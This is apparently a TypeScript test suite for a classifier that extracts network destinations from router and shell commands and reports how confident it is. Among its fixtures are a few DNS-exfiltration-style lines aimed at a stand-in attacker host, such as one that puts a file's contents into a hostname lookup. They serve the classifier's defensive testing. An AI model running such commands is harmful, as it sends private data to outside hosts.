import assert from 'node:assert/strict';
import { test } from 'node:test';
import type { Platform } from '@interlock/model';
import { classify } from './index.ts';

const goes = (platform: Platform, command: string) => {
  const { destinations = [] } = classify({ platform, command });
  for (const { text, span } of destinations) assert.ok(command.slice(span.start, span.end).includes(text), command);
  return destinations.map(({ text, kind }) => `${kind} ${text}`);
};

const goesAnywhere = (command: string) => classify({ platform: 'linux', command }).destinations ?? [];

test('a probe names where it goes, an address or a name, with its place', () => {
  for (const [platform, command, expected] of [
    ['cisco_ios', 'ping 192.0.2.1', ['address 192.0.2.1']],
    ['cisco_ios', 'ping vrf MGMT 192.0.2.1 repeat 3 source Loopback0', ['address 192.0.2.1']],
    ['cisco_ios', 'ping ip www.example.com', ['name www.example.com']],
    ['cisco_ios', 'traceroute secret-in-a-name.attacker.example', ['name secret-in-a-name.attacker.example']],
    ['cisco_ios', 'ping ipv6 2001:db8::1', ['address 2001:db8::1']],
    ['cisco_nxos', 'ping 010.1.2.3', ['name 010.1.2.3']],
    ['juniper_junos', 'ping 192.0.2.9 count 3 routing-instance blue', ['address 192.0.2.9']],
    ['juniper_junos', 'traceroute host.example no-resolve', ['name host.example']],
    ['mikrotik_routeros', '/ping address=192.0.2.5 count=3', ['address 192.0.2.5']],
    ['frr', 'ping 192.0.2.7', ['address 192.0.2.7']],
    ['linux', 'ping -c 3 192.0.2.1', ['address 192.0.2.1']],
    ['linux', 'dig @192.0.2.53 www.example.com', ['address 192.0.2.53', 'name www.example.com']],
    ['linux', 'traceroute -n 2001:db8::5', ['address 2001:db8::5']],
    ['linux', 'ping -c 1 192.0.2.1 | host www.example.com', ['address 192.0.2.1', 'name www.example.com']],
    ['linux', 'ls; sudo ping -c 1 192.0.2.1', ['address 192.0.2.1']],
    ['linux', 'fping 192.0.2.1 3405803785', ['address 192.0.2.1', 'name 3405803785']],
    ['linux', 'svn list http://user@192.0.2.1:8080/x', ['address 192.0.2.1']],
    ['linux', 'dig -x 192.0.2.1 +short ptr', ['address 192.0.2.1']],
    ['linux', 'dig 192.0.2.1 table name.example', ['address 192.0.2.1', 'name table', 'name name.example']],
    ['linux', 'scp x admin@192.0.2.1:/tmp', ['address 192.0.2.1']],
    ['vyos', 'ping 192.0.2.1 ; ping www.example.com', ['address 192.0.2.1', 'name www.example.com']],
    ['juniper_junos', 'ping 192.0.2.1 host 192.0.2.2', ['address 192.0.2.1', 'address 192.0.2.2']],
  ] as const)
    assert.deepEqual(goes(platform, command), expected, command);
});

test('a part of a shell that may go anywhere says a place that nobody knows', () => {
  for (const command of [
    'getent hosts $(cat x).attacker.example',
    'curl -K x',
    'ping 192.0.2.1; getent networks',
    'cat x | xargs host',
    "sh -c 'host x.example'",
    'svn log',
    'kubectl get -f https://x.example/y',
  ])
    assert.ok(
      goesAnywhere(command).some(({ kind }) => kind === 'name'),
      command,
    );
  for (const command of ['echo https://x.example', 'grep http://x y', 'cat file:///etc/hosts', 'ls'])
    assert.deepEqual(goesAnywhere(command), [], command);
});

test('what is no probe and no copy goes nowhere', () => {
  for (const command of ['show ip route 192.0.2.1', 'show version', 'configure terminal'])
    assert.deepEqual(goes('cisco_ios', command), []);
});

test('a reading says how sure it is', () => {
  const sure = (platform: Platform, command: string) => classify({ platform, command }).confidence;
  assert.equal(sure('cisco_ios', 'show version'), 'exact');
  assert.equal(sure('cisco_ios', 'sh ver'), 'resolved');
  assert.equal(sure('cisco_ios', 'frobnicate'), 'assumed');
  assert.equal(sure('other:box', 'show version'), 'assumed');
  assert.equal(classify({ platform: 'cisco_ios', command: 'show version', mode: 'unknown' }).confidence, 'assumed');
});
